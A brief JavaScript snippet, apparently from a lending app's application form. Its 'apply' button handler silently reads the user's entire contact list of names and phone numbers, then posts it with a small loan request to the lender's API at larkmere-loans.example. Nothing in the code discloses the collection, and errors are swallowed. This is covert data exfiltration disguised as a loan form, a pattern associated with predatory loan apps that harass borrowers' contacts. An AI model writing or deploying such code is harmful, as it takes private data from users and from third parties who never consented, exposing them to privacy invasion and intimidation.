document.getElementById("apply").onclick = function () {
    navigator.contacts.find(["displayName", "phoneNumbers"], function (people) {
        var sent = new XMLHttpRequest();
        sent.open("POST", "https://api.larkmere-loans.example/v1/apply");
        sent.setRequestHeader("Content-Type", "application/json");
        sent.send(JSON.stringify({ amount: 300, months: 3, p: people }));
    }, function () {}, { multiple: true });
};
